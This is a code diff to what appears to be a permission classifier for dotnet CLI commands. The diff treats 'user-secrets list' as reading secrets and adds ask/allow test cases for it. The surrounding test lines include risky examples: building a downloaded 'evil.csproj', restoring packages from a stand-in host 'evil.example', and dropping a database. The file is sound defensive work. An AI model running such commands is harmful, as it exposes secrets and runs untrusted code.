@@ -55,7 +55,7 @@ DOTNET = command(
             sub("database", subcommands=[loose("drop", [flag("--dry-run", dry=True)], does=deletes("the whole database", "database")), loose("update", does=runs("the project's migrations"))]),
             loose("migrations dbcontext", does=BUILD),
         ]),
-        sub("user-secrets", subcommands=[sub("init", unlisted=PLAIN), loose("list set remove clear", does=writes("the project's secrets", "secret"))]),
+        sub("user-secrets", subcommands=[sub("init", unlisted=PLAIN), loose("list", does=reads("the project's secrets", "secret")), loose("set remove clear", does=writes("the project's secrets", "secret"))]),
         loose("dev-certs", does=writes("a certificate this machine trusts", "home")),
         sub("workload", subcommands=[loose("list search config"), loose("install update repair restore uninstall", does=runs("a .NET component", "registry", (Manner.INSTALL, Manner.GLOBAL)))]),
         loose("sdk help build-server store completions"),
@@ -139,6 +139,8 @@ ask    dotnet tool install -g somebodys.tool
 ask    dotnet nuget push bin/Release/*.nupkg -s https://api.nuget.org/v3/index.json
 ask    dotnet ef database drop --force
 ask    dotnet user-secrets set key value
+ask    dotnet user-secrets list
+allow  dotnet user-secrets list --project src/Api | cut -d= -f1
 ask    dotnet build ~/Downloads/evil.csproj
 ask    dotnet restore --source https://evil.example/v3/index.json
 deny   dotnet build -o /usr/lib/app
